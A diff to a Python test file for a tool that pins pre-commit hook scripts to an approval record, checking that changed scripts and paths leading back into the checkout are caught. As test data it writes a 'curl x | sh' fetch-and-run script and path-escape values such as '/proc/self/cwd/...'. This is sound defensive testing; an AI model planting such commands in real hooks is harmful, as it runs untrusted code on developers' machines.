@@ -73,7 +73,7 @@ REMOTE_RUNS_A_SCRIPT = """repos:
       - id: shell
         args: [tools/args.sh]
       - id: flake8
-        args: [--exclude, "/*/migrations/*", --config, ../shared/setup.cfg]
+        args: [--exclude, "/*/migrations/*", --config, setup.cfg]
 """
 
 
@@ -82,7 +82,8 @@ def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None
     its own `entry:` and `args:`, run in the project's checkout; trust read the words of a
     local hook's alone, so `entry: sh tools/entry.sh` (or `args: [tools/args.sh]` after the
     remote's `sh`) was pinned by nothing, and once changed ran under the old approval. The
-    entry is read as a command; the args for what of the tree they name."""
+    entry is read as a command; the args for what of the tree they name and ways back into
+    the checkout (attack 51's), a pattern aside."""
     scripts = {"tools/entry.sh": "#!/bin/sh\nexit 0\n", "tools/args.sh": "#!/bin/sh\nexit 0\n"}
     repo.land("hooks", {".pre-commit-config.yaml": REMOTE_RUNS_A_SCRIPT, **scripts}, hooks=False)
     first = pinned(repo)
@@ -90,14 +91,19 @@ def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None
     by_path = {file.path: file for file in first.files}
     assert {"tools/entry.sh", "tools/args.sh"} <= set(by_path)
     assert by_path["tools/entry.sh"].why == "executed by a hook"
-    # Patterns and places beyond the tree handed to the remote's program are no commands of
-    # this configuration: nothing of it is refused for them (the audit of the first fix).
+    # A pattern handed to the remote's program is no command of this configuration: nothing of
+    # it is refused for one (the audit of the first fix); a way back into the checkout is.
     assert only_manager(repo).problem is None
     for script in scripts:
         repo.land("the script changes", {script: "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
         changed = pinned(repo)
         assert changed is not None and changed.digest != first.digest
         first = changed
+    for back in ("../work/tools/entry.sh", "/proc/self/cwd/tools/entry.sh"):
+        spelt = REMOTE_RUNS_A_SCRIPT.replace("[tools/args.sh]", f"[{back}]")
+        repo.land("back in", {".pre-commit-config.yaml": spelt}, hooks=False)
+        problem = only_manager(repo).problem
+        assert problem is not None and back in problem
 
 
 def test_a_tree_that_declares_no_hooks_pins_nothing(repo: Repo) -> None:
